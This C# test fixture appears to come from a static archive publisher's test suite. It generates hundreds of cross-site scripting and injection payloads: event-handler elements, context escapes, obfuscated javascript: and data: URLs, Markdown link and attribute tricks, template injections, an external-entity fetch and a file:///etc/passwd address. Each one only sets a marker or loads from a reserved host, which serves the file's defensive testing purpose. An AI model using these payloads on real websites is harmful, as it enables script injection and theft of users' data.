namespace StaticArchive.Tests.Publish.Hostile;

/// <summary>
/// Texts that are meant to run something in a reader's browser or to have it ask another host. Composed of families:
/// elements that load or react, ways out of every place a text can stand in, addresses that run, encodings, and
/// Markdown's constructs. Where one of them ran, <c>window.ran</c> would be set; where one loaded, <see cref="Host"/>
/// would be asked.
/// </summary>
internal static class Payloads
{
    /// <summary>The host that no page may ask.</summary>
    public const string Host = "hostile.invalid";

    private const string Run = "window.ran=1";

    /// <summary>Elements that load or react by themselves: opening and, behind the handler, closing.</summary>
    private static readonly (string Open, string Handler, string Close)[] Elements =
    [
        ("<img src=x", "onerror", ">"),
        ("<img src=//hostile.invalid/i", "onload", ">"),
        ("<image src=x", "onerror", ">"),
        ("<svg", "onload", ">"),
        ("<svg><animate attributeName=x dur=1s", "onbegin", ">"),
        ("<svg><set attributeName=x", "onbegin", ">"),
        ("<svg><image href=x", "onerror", "/>"),
        ("<body", "onload", ">"),
        ("<body", "onpageshow", ">"),
        ("<iframe src=//hostile.invalid/f", "onload", "></iframe>"),
        ("<video src=x", "onerror", "></video>"),
        ("<video><source", "onerror", "></video>"),
        ("<audio src=x", "onerror", "></audio>"),
        ("<object data=//hostile.invalid/o", "onerror", "></object>"),
        ("<embed src=//hostile.invalid/e", "onload", ">"),
        ("<details open", "ontoggle", "><summary>s</summary></details>"),
        ("<input autofocus", "onfocus", ">"),
        ("<select autofocus", "onfocus", "></select>"),
        ("<textarea autofocus", "onfocus", "></textarea>"),
        ("<button autofocus", "onfocus", ">b</button>"),
        ("<marquee", "onstart", ">m</marquee>"),
        ("<link rel=stylesheet href=//hostile.invalid/c", "onerror", ">"),
        ("<style", "onload", ">p{}</style>"),
        ("<script src=//hostile.invalid/s", "onload", "></script>"),
        ("<a href=x tabindex=1 autofocus", "onfocus", ">a</a>"),
        ("<div style=animation-name:x", "onanimationstart", ">d</div>"),
        ("<p contenteditable autofocus", "onfocusin", ">p</p>"),
        ("<math><mtext tabindex=1 autofocus", "onfocus", ">m</mtext></math>"),
        ("<dialog open autofocus", "onfocus", ">d</dialog>"),
        ("<meter", "onmouseover", ">m</meter>"),
    ];

    /// <summary>How a handler can be written.</summary>
    private static readonly Func<string, string>[] Handlers =
    [
        name => $" {name}={Run}",
        name => $" {name}=\"{Run}\"",
        name => $"/{name.ToUpperInvariant()}='{Run}'",
        name => $"\n{name} = &#119;indow.ran&#61;1",
        name => $"\t{name}=eval(atob('d2luZG93LnJhbj0x'))",
    ];

    /// <summary>What can stand before markup to leave the place that the text stands in.</summary>
    private static readonly string[] Exits =
    [
        "\">",
        "'>",
        "\"/>",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "</mark>",
        "</q>",
        "</s>",
        "</aside>",
        "</blockquote>",
        "</code></pre>",
        "</svg>",
        "</template>",
        "</noscript>",
        "-->",
        "--!>",
        "]]>",
        "?>",
        "*/",
        "%>",
        "&quot;&gt;",
        "\\\">",
        "\u0000>",
        "\u2028",
        "`",
        "```\n",
        "</p>\n\n",
        "\r\n\r\n",
    ];

    /// <summary>Attributes that a text in quotation marks could add.</summary>
    private static readonly string[] Attributes =
    [
        $"\" onmouseover=\"{Run}",
        $"' onmouseover='{Run}",
        $"\" autofocus onfocus={Run} x=\"",
        $"\" style=\"background:url(//hostile.invalid/b)",
        $"\" srcdoc=\"<script>{Run}</script>",
        "\" src=\"//hostile.invalid/a",
        $"\" formaction=\"javascript:{Run}",
        $"\"\nonclick\n=\n\"{Run}",
        $"x onpointerenter={Run}",
        $"&quot; onfocus=&quot;{Run}",
    ];

    /// <summary>Addresses that run, load, or lead to another host in disguise.</summary>
    private static readonly string[] Addresses =
    [
        $"javascript:{Run}",
        $"JaVaScRiPt:{Run}",
        $"java\tscript:{Run}",
        $"java\nscript:{Run}",
        $"\u0001javascript:{Run}",
        $" javascript:{Run}",
        $"&#106;avascript:{Run}",
        $"&#x6A;avascript:{Run}",
        $"javascript&colon;{Run}",
        $"javascript&#58;{Run}",
        $"java&Tab;script:{Run}",
        $"java&NewLine;script:{Run}",
        $"%6Aavascript:{Run}",
        $"javascript://hostile.invalid/%0A{Run}",
        $"java\u00ADscript:{Run}",
        $"java\u200Bscript:{Run}",
        $"\uFEFFjavascript:{Run}",
        $"javaſcript:{Run}",
        $"ｊavascript:{Run}",
        $"vbscript:{Run}",
        $"livescript:{Run}",
        $"feed:javascript:{Run}",
        $"view-source:javascript:{Run}",
        $"jar:javascript:{Run}!/",
        $"data:text/html,<script>{Run}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
        $"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{Run}'/>",
        "blob:null/1",
        "file:///etc/passwd",
        "//hostile.invalid/p",
        "\\\\hostile.invalid\\p",
        "/\\hostile.invalid/p",
        "///hostile.invalid/p",
        "https:hostile.invalid",
        "http:\\\\hostile.invalid",
        $"#\" onclick=\"{Run}",
    ];

    /// <summary>Where Markdown takes an address.</summary>
    private static readonly Func<string, string>[] Constructs =
    [
        address => $"[words]({address})",
        address => $"[words](<{address}>)",
        address => $"![words]({address})",
        address => $"<{address}>",
        address => $"[words][r]\n\n[r]: {address}",
        address => $"![words][r]\n\n[r]: <{address}> 'title'",
        address => $"[![words]({address})]({address} \"title\")",
    ];

    /// <summary>Markup in other clothes, and Markdown's own ways to attributes and raw markup.</summary>
    private static readonly string[] Others =
    [
        $"<script>{Run}</script>",
        $"<SCRIPT >{Run}</SCRIPT >",
        $"<scr<script>ipt>{Run}</scr</script>ipt>",
        $"<script\u0000>{Run}</script>",
        $"<\u0000script>{Run}</script>",
        $"&lt;script&gt;{Run}&lt;/script&gt;",
        $"&#60;script&#62;{Run}&#60;/script&#62;",
        $"%3Cscript%3E{Run}%3C/script%3E",
        $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e",
        $"+ADw-script+AD4-{Run}+ADw-/script+AD4-",
        $"＜script＞{Run}＜/script＞",
        $"<ſcript>{Run}</ſcript>",
        $"<![CDATA[<script>{Run}</script>]]>",
        $"<!--><script>{Run}</script>-->",
        $"<!--[if true]><script>{Run}</script><![endif]-->",
        $"<?xml-stylesheet href=\"javascript:{Run}\"?>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"//hostile.invalid/x\">]>&a;",
        "<base href=//hostile.invalid/>",
        "<meta http-equiv=refresh content=\"0;url=//hostile.invalid/\">",
        "<form action=//hostile.invalid/><button autofocus>b</button></form>",
        "<template shadowrootmode=open><img src=x></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
        $"<math><mi xlink:href=\"javascript:{Run}\">m</mi></math>",
        $"<svg><script href=\"data:,{Run}\"/></svg>",
        "<table background=//hostile.invalid/t>",
        "<style>@import '//hostile.invalid/i';</style>",
        "```\"><script>window.ran=1</script>\ncode\n```",
        "~~~ html onload=window.ran=1\n<b>\n~~~",
        "# Heading {onclick=window.ran=1}",
        "[words](x){onclick=window.ran=1}",
        "# Heading {#\" onclick=window.ran=1}",
        "[words](x \"title\\\" onmouseover=window.ran=1 x=\\\"\")",
        "![a\" onerror=window.ran=1](x)",
        "[a]: x \"t\" onclick=window.ran=1\n[a]",
        "| a |\n|---|\n| <img src=x onerror=window.ran=1> |",
        "- [ ] <img src=x onerror=window.ran=1>",
        "<div markdown=1><img src=x onerror=window.ran=1></div>",
        "[^1]\n\n[^1]: <img src=x onerror=window.ran=1>",
        "*[HTML]: <img src=x onerror=window.ran=1>",
        "[@x](javascript:window.ran=1)",
        "[@<img src=x onerror=window.ran=1>]",
        "    <script>window.ran=1</script>",
        "> <script>window.ran=1</script>",
        "1. <script>window.ran=1</script>",
        "```suggestion\n<img src=x onerror=window.ran=1>\n```",
        "{{constructor.constructor('window.ran=1')()}}",
        "${window.ran=1}",
        "<%= window.ran=1 %>",
        "@{window.ran=1;}",
        "#{window.ran=1}",
        "__proto__",
        "constructor",
        "!!js/function 'window.ran=1'",
        "&a [*a, *a]",
        "\u202E<script>window.ran=1</script>",
        "\uD83D<script>window.ran=1</script>",
    ];

    /// <summary>All of them, each once.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. new[]
        {
            Elements.SelectMany(element =>
                Handlers.Select(handler => element.Open + handler(element.Handler) + element.Close)
            ),
            Exits.Select(exit => $"{exit}<script>{Run}</script>"),
            Exits.Select(exit => $"{exit}<img src=//{Host}/exit onerror={Run}>"),
            Attributes,
            Addresses,
            Addresses.SelectMany(address => Constructs.Select(construct => construct(address))),
            Others,
        }
            .SelectMany(family => family)
            .Distinct(StringComparer.Ordinal),
    ];
}
